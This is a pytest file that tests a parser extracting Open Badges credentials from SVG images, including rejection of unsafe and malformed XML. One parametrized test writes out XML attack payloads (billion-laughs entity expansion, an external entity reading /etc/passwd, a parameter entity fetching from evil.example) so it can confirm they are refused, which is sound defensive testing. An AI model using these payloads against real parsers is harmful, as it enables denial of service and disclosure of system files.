"""Badges baked into SVG."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.unit.formats.baking import ADDRESS, BADGE, baked_2, baked_3, jws, svg
from wallet.errors import UnusableInput
from wallet.formats.svg import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, parse, payloads

TEXT = BADGE.decode()
TOKEN = jws().decode()
URL = ADDRESS.decode()


def found(data: bytes) -> list[bytes]:
    return payloads(parse(data, "badge.svg"), "badge.svg")


def refused(data: bytes) -> UnusableInput:
    with pytest.raises(UnusableInput) as caught:
        found(data)
    return caught.value


@pytest.mark.parametrize("baked", [baked_2, baked_3])
def test_text_wins_over_an_address_and_verify_counts_without_text(
    baked: Callable[..., str],
) -> None:
    assert found(svg(baked(body=f"\n  {TEXT}\n"))) == [BADGE]
    assert found(svg(baked(body=TEXT, verify=URL))) == [BADGE]
    assert found(svg(baked(verify=URL))) == [ADDRESS]
    assert found(svg(baked(verify=TOKEN))) == [TOKEN.encode()]
    assert found(svg(baked(body=TOKEN))) == [TOKEN.encode()]
    assert found(svg(f"<g>{baked(body=TEXT)}</g>")) == [BADGE]
    assert found(svg(baked())) == []


def test_text_without_cdata_is_read_too() -> None:
    inside = f'<credential xmlns="https://purl.imsglobal.org/ob/v3p0">{TEXT}</credential>'
    assert found(svg(inside)) == [BADGE]


def test_a_signed_badge_counts_with_the_text_that_it_signs() -> None:
    respelt = TEXT.replace(": ", ":")
    assert found(svg(baked_2(body=respelt, verify=TOKEN))) == [TOKEN.encode()]
    wrapped = jws(b'{"vc": ' + BADGE + b"}").decode()
    assert found(svg(baked_3(body=TEXT, verify=wrapped))) == [wrapped.encode()]


def test_a_signed_badge_and_a_text_that_says_otherwise_are_two() -> None:
    other = TEXT.replace("badges/1", "badges/2")
    assert found(svg(baked_2(body=other, verify=TOKEN))) == [other.encode(), TOKEN.encode()]


def test_the_same_badge_twice_is_one_and_two_are_two() -> None:
    assert found(svg(baked_2(body=TEXT) + baked_3(body=TEXT))) == [BADGE]
    assert found(svg(baked_2(body=TEXT) + baked_3(verify=TOKEN))) == [BADGE, TOKEN.encode()]


def test_other_namespaces_are_no_badges() -> None:
    assert found(svg(f'<assertion xmlns="http://other.example">{TEXT}</assertion>')) == []
    assert found(svg(f"<assertion>{TEXT}</assertion>")) == []


DOCTYPE = (
    '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)


def test_a_doctype_is_common_and_nothing_is_fetched_for_it() -> None:
    assert found(svg(baked_2(body=TEXT), prolog=DOCTYPE)) == [BADGE]


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("prolog", "inside"),
    [
        (f'<!DOCTYPE svg [<!ENTITY l0 "lol">{LAUGHS}]>', "&l9;"),
        ('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<title>&x;</title>"),
        ('<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', ""),
    ],
    ids=["billion laughs", "external entity", "parameter entity"],
)  # fmt: skip
def test_entities_are_refused(prolog: str, inside: str) -> None:
    error = refused(svg(inside, prolog=prolog))
    assert error.code == "unsafe-picture"
    assert str(error).startswith("the picture badge.svg is made in a way that is not safe to read")


def test_a_picture_cut_short_anywhere_is_damaged() -> None:
    whole = svg(baked_2(body=TEXT, verify=URL))
    for length in range(len(whole)):
        assert refused(whole[:length]).code == "damaged-picture"


@pytest.mark.parametrize(
    "data",
    [
        b"<svg>&undefined;</svg>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><svg/>',
        b"<svg>\xff\xfe</svg>",
        b"<svg/><svg/>",
    ],
)
def test_what_is_no_xml_is_damaged(data: bytes) -> None:
    assert refused(data).code == "damaged-picture"


@pytest.mark.parametrize(
    "data",
    [
        b"<svg>" + b"<g>" * MAX_DEPTH,
        b"<svg>" + b"<g/>" * MAX_ELEMENTS,
        b"<svg>" + b" " * MAX_BYTES,
    ],
    ids=["deep", "many", "long"],
)
def test_drawings_without_end_are_stopped(data: bytes) -> None:
    error = refused(data)
    assert error.code == "too-large"
    assert str(error).startswith("the picture badge.svg is far too large to be a badge")
